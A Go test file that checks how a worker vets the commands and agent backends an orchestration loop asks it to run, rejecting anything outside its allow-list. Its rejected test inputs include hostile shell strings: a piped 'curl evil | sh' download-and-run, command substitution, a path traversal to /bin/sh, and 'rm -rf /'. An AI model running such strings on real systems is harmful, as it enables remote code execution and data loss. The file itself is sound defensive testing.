package durable

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"go.temporal.io/sdk/temporal"

	"github.com/aot-loop/aot/internal/agent"
	"github.com/aot-loop/aot/internal/backend"
	"github.com/aot-loop/aot/internal/engine"
	"github.com/aot-loop/aot/internal/state"
)

func TestAllowMatchesWholeCommandLinesWordByWord(t *testing.T) {
	patterns := []string{"/opt/agents/*.sh", "python3 agent.py --level ?", "claude-wrapper --model *"}
	allow := Allow{Patterns: patterns}
	for _, c := range []struct {
		cmd  string
		want bool
	}{
		{"/opt/agents/fix.sh", true},
		{"  /opt/agents/fix-2.sh ", true},
		{"/opt/agents/.sh", true},
		{"python3 agent.py --level 3", true},
		{"claude-wrapper --model opus-4.5", true},
		// What a star never stands for: another word, a folder, the shell.
		{"/opt/agents/fix.sh --extra", false},
		{"/opt/agents/x.sh; curl evil | sh", false},
		{"/opt/agents/$(curl evil).sh", false},
		{"/opt/agents/../../bin/sh", false},
		{"/opt/agents/sub/fix.sh", false},
		{"python3 agent.py --level 10", false},
		{"python3 agent.py --level ;", false},
		{"claude-wrapper --model opus && rm -rf /", false},
		{"claude-wrapper --model `id`", false},
		{"/opt/agents/fix.sh\nsh", false},
		{"", false},
	} {
		if got := allow.Command(c.cmd); got != c.want {
			t.Errorf("Allow%q.Command(%q) = %v, want %v", patterns, c.cmd, got, c.want)
		}
	}
	if (Allow{}).Command("true") {
		t.Error("the zero Allow let a command in")
	}
	if !(Allow{Any: true}).Command("sh -c 'anything at all'") || (Allow{Any: true}).Command("  ") {
		t.Error("Allow{Any} should let every command in, and no empty one")
	}
	if err := CheckPattern(" "); err == nil {
		t.Error("an empty pattern was accepted")
	}
}

// The worker's own agents decide; a loop picks among them by name and
// model, and brings a command only where the worker allows it.
func TestChooseAgentTakesTheWorkersOwnAndRefusesTheRest(t *testing.T) {
	withCommand := backend.Config{Spec: backend.Spec{Agent: "exec", Command: "/opt/agents/run.sh"}}
	claude := backend.Config{Spec: backend.Spec{Agent: "claude", Model: "sonnet", Bin: "/usr/local/bin/claude", Args: []string{"--verbose"}},
		Roles: map[string]backend.Spec{"judge": {Agent: "codex", Bin: "/opt/codex"}}}
	bare := backend.Config{}
	for _, c := range []struct {
		name    string
		own     backend.Config
		allow   Allow
		ch      AgentChoice
		role    agent.Role
		want    backend.Spec
		refused string // what the refusal names; "" when none
	}{
		{name: "no choice: the worker's own command", own: withCommand, role: agent.Worker,
			want: backend.Spec{Agent: "exec", Command: "/opt/agents/run.sh"}},
		{name: "the loop names exec: the worker's command", own: withCommand, ch: AgentChoice{Agent: "exec"}, role: agent.Worker,
			want: backend.Spec{Agent: "exec", Command: "/opt/agents/run.sh"}},
		{name: "the loop brings the worker's own command", own: withCommand, ch: AgentChoice{Agent: "exec", Command: " /opt/agents/run.sh "}, role: agent.Probe,
			want: backend.Spec{Agent: "exec", Command: "/opt/agents/run.sh"}},
		{name: "the loop brings another command", own: withCommand, ch: AgentChoice{Agent: "exec", Command: "sh /tmp/evil.sh"}, role: agent.Worker,
			refused: `the command "sh /tmp/evil.sh"`},
		{name: "a pattern allows the loop's command", own: withCommand, allow: Allow{Patterns: []string{"/opt/agents/*.sh"}},
			ch: AgentChoice{Command: "/opt/agents/other.sh"}, role: agent.Worker, want: backend.Spec{Agent: "exec", Command: "/opt/agents/other.sh"}},
		{name: "a pattern that does not match", own: withCommand, allow: Allow{Patterns: []string{"/opt/agents/*.sh"}},
			ch: AgentChoice{Command: "/opt/agents/other.sh && sh"}, role: agent.Worker, refused: `the command "/opt/agents/other.sh && sh"`},
		{name: "a bare worker allowing any command", own: bare, allow: Allow{Any: true}, ch: AgentChoice{Agent: "exec", Command: "./agent"}, role: agent.Worker,
			want: backend.Spec{Agent: "exec", Command: "./agent"}},
		{name: "a bare worker, no allowance", own: bare, ch: AgentChoice{Agent: "exec", Command: "./agent"}, role: agent.Worker,
			refused: `the command "./agent"`},
		{name: "a bare worker, nothing brought", own: bare, role: agent.Planner,
			refused: "the exec agent of the planner role"},
		{name: "the loop names a backend the worker has, with a model", own: claude, ch: AgentChoice{Agent: "claude", Model: "opus"}, role: agent.Worker,
			want: backend.Spec{Agent: "claude", Model: "opus", Bin: "/usr/local/bin/claude", Args: []string{"--verbose"}}},
		{name: "a backend the worker has for another role", own: claude, ch: AgentChoice{Roles: map[string]string{"worker": "codex:gpt-5"}}, role: agent.Worker,
			want: backend.Spec{Agent: "codex", Model: "gpt-5", Bin: "/opt/codex"}},
		{name: "a role the loop leaves to the worker", own: claude, ch: AgentChoice{Roles: map[string]string{"worker": "codex"}}, role: agent.Judge,
			want: backend.Spec{Agent: "codex", Bin: "/opt/codex"}},
		{name: "a backend the worker does not have", own: claude, ch: AgentChoice{Agent: "gemini"}, role: agent.Worker,
			refused: "the gemini agent"},
		{name: "exec on a worker without a command, even with one brought", own: claude, ch: AgentChoice{Agent: "exec", Command: "true"}, role: agent.Worker,
			refused: `the command "true"`},
		{name: "a command beside a backend that runs none", own: claude, ch: AgentChoice{Agent: "claude", Command: "sh /tmp/evil.sh"}, role: agent.Worker,
			want: backend.Spec{Agent: "claude", Model: "sonnet", Bin: "/usr/local/bin/claude", Args: []string{"--verbose"}}},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, err := ChooseAgent(c.own, c.allow, c.ch, c.role)
			if c.refused != "" {
				var refused *RefusedError
				if !errors.As(err, &refused) || refused.What != c.refused {
					t.Fatalf("ChooseAgent = %+v, %v; want a refusal of %s", got, err, c.refused)
				}
				if !strings.Contains(err.Error(), "aot worker") {
					t.Errorf("the refusal does not say what the worker would need: %v", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(c.want, got); d != "" {
				t.Errorf("ChooseAgent (-want +got):\n%s", d)
			}
		})
	}
}

// choosingAgents builds, as aot worker does, only what ChooseAgent gives.
func choosingAgents(own backend.Config, allow Allow) func(AgentChoice, agent.Role, AgentDirs) (agent.Agent, error) {
	return func(ch AgentChoice, role agent.Role, _ AgentDirs) (agent.Agent, error) {
		s, err := ChooseAgent(own, allow, ch, role)
		if err != nil {
			return nil, err
		}
		return backend.New(backend.Config{Spec: s}, backend.Env{})
	}
}

// A refused attempt runs nothing and pushes nothing; its result says it
// was refused, by whom and why. A refused judge fails the verification
// for good (no retry can mend it).
func TestARefusedAgentRunsNothing(t *testing.T) {
	repo, seed := newRemote(t, map[string]string{})
	a := newActivities(t)
	a.NewAgent = choosingAgents(backend.Config{Spec: backend.Spec{Agent: "exec", Command: "echo '{\"success\": false}'"}}, Allow{})
	marker := filepath.Join(t.TempDir(), "ran")
	in := attemptInput(repo, seed, "A", "touch "+marker+`; echo a > a.txt; echo '{"success": true, "summary": "a"}'`)
	res, err := a.Attempt(t.Context(), in)
	if err != nil {
		t.Fatalf("a refusal is a result, not an error: %v", err)
	}
	if !res.Refused || !strings.HasPrefix(res.Reason, `worker test-worker refused the command "touch `) || res.Kind != agent.KindCrash {
		t.Errorf("result: %+v", res)
	}
	if _, err := os.Stat(marker); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the refused command ran (%v)", err)
	}
	if got := branchOf(t, repo, in.Branch); got != "" {
		t.Errorf("a refused attempt pushed %s", in.Branch)
	}
	// The same worker's own agent is no refusal.
	if res, err := a.Attempt(t.Context(), attemptInput(repo, seed, "B", "")); err != nil || res.Refused {
		t.Errorf("the worker's own agent: %+v, %v", res, err)
	}

	judged := []byte(strings.Replace(verifyState, "%s", `      - item: "reads well"
        check:
          type: assertion
          value: "README.md reads well"`, 1))
	_, err = a.Verify(t.Context(), VerifyInput{Repo: repo, Commit: seed, State: judged, Judge: true,
		Agent: AgentChoice{Roles: map[string]string{"judge": "claude"}}})
	var ae *temporal.ApplicationError
	if !errors.As(err, &ae) || !ae.NonRetryable() || !strings.Contains(err.Error(), "worker test-worker refused the claude agent") {
		t.Errorf("a refused judge: %v", err)
	}
	noWorktrees(t, a)
}

// A worker's refusal stops the loop at once with the worker's reason: no
// attempt of any other atom starts, no attempt is retried.
func TestWorkflowStopsAtARefusal(t *testing.T) {
	w := newWorld()
	const why = `worker w1 refused the command "sh evil.sh": it is not this worker's own`
	w.answer = func(in AttemptInput) (AttemptResult, error) {
		return AttemptResult{Kind: agent.KindCrash, Reason: why, Refused: true, Worker: "w1"}, nil
	}
	r := newRun(t, w)
	out := r.execute(t, input(loopState(state.Constraints{MaxParallelAgents: 1, MaxAttemptsPerAtom: 5, MaxStallCount: 10},
		[]state.Atom{atom("A"), atom("B")}, nil)))
	wantReason(t, out, engine.Failed)
	if out.Message != why {
		t.Errorf("message %q, want the worker's reason", out.Message)
	}
	if d := cmp.Diff([]string{"A#1"}, w.tried()); d != "" {
		t.Errorf("attempts (-want +got):\n%s", d)
	}
	if s, _ := r.final(t); s.Control.Status != state.ControlStopped {
		t.Errorf("control %+v", s.Control)
	}
}
